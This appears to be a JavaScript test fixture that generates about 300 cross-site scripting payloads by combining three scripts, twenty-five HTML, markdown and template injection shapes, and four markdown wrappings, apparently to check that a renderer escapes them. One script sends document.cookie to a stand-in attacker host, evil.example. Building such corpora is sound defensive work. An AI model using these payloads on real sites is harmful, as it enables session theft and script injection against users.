// Three hundred things that somebody may say, be called or write into a sheet, hoping that it runs.
const kScripts = ["globalThis.pwned=1", "alert(1)", "fetch('//evil.example/?'+document.cookie)"];

const kShapes = [
  (js) => `<script>${js}</script>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<svg onload="${js}">`,
  (js) => `"><script>${js}</script>`,
  (js) => `'><img src=x onerror='${js}'>`,
  (js) => `</textarea><script>${js}</script>`,
  (js) => `</title><svg/onload=${js}>`,
  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<a href="javascript:${js}">a</a>`,
  (js) => `[a](javascript:${js})`,
  (js) => `![a](https://evil.example/x.png?${js})`,
  (js) => `<img src="https://evil.example/pixel.png" alt="${js}">`,
  (js) => `<style>@import 'https://evil.example/a.css';</style>${js}`,
  (js) => `<link rel=stylesheet href=https://evil.example/${js}>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<form action="javascript:${js}"><button>go</button></form>`,
  (js) => `<details open ontoggle="${js}">`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<base href="https://evil.example/">${js}`,
  (js) => `<meta http-equiv=refresh content="0;url=https://evil.example/?${js}">`,
  (js) => `<math><mi//xlink:href="data:x,<script>${js}</script>">`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `\${${js}}`,
  (js) => `javascript:${js}`,
  (js) => `<template><script>${js}</script></template>`,
];

// As it stands, inside an action, inside a quote, inside strong words.
const kPlaces = [(text) => text, (text) => `*${text}*`, (text) => `"${text}"`, (text) => `**${text}**`];

export const payloads = kShapes.flatMap((shape) =>
  kScripts.flatMap((script) => kPlaces.map((place) => place(shape(script)))),
);
